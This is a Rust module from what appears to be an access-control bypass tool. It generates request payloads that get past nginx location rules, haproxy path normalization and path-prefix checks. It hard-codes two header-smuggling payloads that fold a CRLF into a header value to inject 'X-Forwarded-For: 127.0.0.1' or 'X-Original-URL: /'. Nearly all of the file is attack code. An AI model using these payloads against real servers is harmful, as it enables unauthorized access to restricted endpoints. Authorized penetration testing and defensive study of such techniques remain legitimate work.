//! Front-end quirk modules: nginx location matching, haproxy path
//! normalization, and prefix rewriting. All three are template-driven; a
//! `{}` in a table line is replaced with the target path, lines without a
//! placeholder are treated as suffixes of it.

use crate::{ModuleOpts, PayloadIter, Seed};
use gatecrash_payload::{Header, TargetUrl};

fn apply_template(template: &str, path: &str) -> String {
    if template.contains("{}") {
        template.replace("{}", path)
    } else {
        format!("{path}{template}")
    }
}

fn templated(module: &'static str, target: &TargetUrl, table: Vec<String>) -> PayloadIter {
    let seed = Seed::new(module, target);
    let path = target.path_portion().to_string();
    let tail = target.raw_uri[path.len()..].to_string();

    Box::new(table.into_iter().map(move |template| {
        seed.with_uri(format!("{}{}", apply_template(&template, &path), tail))
    }))
}

pub(crate) fn nginx_bypasses(target: &TargetUrl, opts: &ModuleOpts) -> PayloadIter {
    templated("nginx_bypasses", target, opts.tables.nginx.clone())
}

/// haproxy path templates plus two obs-fold payloads: a folded header value
/// survives our writer byte-for-byte, and haproxy versions that unfold
/// before ACL evaluation disagree with backends that do not.
pub(crate) fn haproxy_bypasses(target: &TargetUrl, opts: &ModuleOpts) -> PayloadIter {
    let seed = Seed::new("haproxy_bypasses", target);
    let templates = templated("haproxy_bypasses", target, opts.tables.haproxy.clone());

    let folded = vec![
        seed.with_headers(vec![Header::new(
            "X-Forwarded-Host",
            "localhost\r\n\tX-Forwarded-For: 127.0.0.1",
        )]),
        seed.with_headers(vec![Header::new(
            "X-Ignore",
            "1\r\n X-Original-URL: /",
        )]),
    ];

    Box::new(templates.chain(folded))
}

pub(crate) fn path_prefix(target: &TargetUrl, opts: &ModuleOpts) -> PayloadIter {
    let seed = Seed::new("path_prefix", target);
    let path = target.path_portion().to_string();
    let tail = target.raw_uri[path.len()..].to_string();
    let table = opts.tables.path_prefix.clone();

    Box::new(table.into_iter().map(move |prefix| {
        seed.with_uri(format!("{prefix}{path}{tail}"))
    }))
}
